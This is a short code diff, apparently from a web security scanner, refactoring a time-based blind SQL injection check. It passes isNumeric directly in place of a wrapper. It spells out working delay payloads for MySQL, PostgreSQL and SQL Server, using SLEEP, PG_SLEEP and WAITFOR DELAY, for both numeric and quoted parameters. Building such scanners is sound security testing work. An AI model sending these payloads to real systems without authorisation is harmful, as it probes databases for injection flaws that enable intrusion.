@@ -27,8 +27,7 @@ export default defineInjection({
   examine: (point, probe) => examineWaits(WAITS, point, probe),
 });
 
-const isNumber = ({ parameter, ordinary }: Point): boolean => isNumeric(parameter, ordinary);
-const isText = (point: Point): boolean => !isNumber(point);
+const isText = (point: Point): boolean => !isNumeric(point);
 
 // None is true, so that no row is found more; each is a derived table, so that the wait is not one for each row.
 const MYSQL = (seconds: string): string => `2=(SELECT 1 FROM (SELECT SLEEP(${seconds}))x)`;
@@ -36,9 +35,9 @@ const POSTGRESQL = (seconds: string): string => `2=(SELECT 1 FROM PG_SLEEP(${sec
 const SQL_SERVER = (seconds: string): string => `;WAITFOR DELAY '0:0:${seconds.padStart(4, "0")}'--`;
 
 const WAITS: readonly Wait[] = [
-  { name: "MySQL", payload: (value, seconds) => `${value} OR ${MYSQL(seconds)}`, where: isNumber },
-  { name: "PostgreSQL", payload: (value, seconds) => `${value} OR ${POSTGRESQL(seconds)}`, where: isNumber },
-  { name: "SQL Server", payload: (value, seconds) => value + SQL_SERVER(seconds), where: isNumber },
+  { name: "MySQL", payload: (value, seconds) => `${value} OR ${MYSQL(seconds)}`, where: isNumeric },
+  { name: "PostgreSQL", payload: (value, seconds) => `${value} OR ${POSTGRESQL(seconds)}`, where: isNumeric },
+  { name: "SQL Server", payload: (value, seconds) => value + SQL_SERVER(seconds), where: isNumeric },
   { name: "MySQL", payload: (value, seconds) => `${value}' OR ${MYSQL(seconds)} OR '1'='2`, where: isText },
   {
     name: "PostgreSQL",
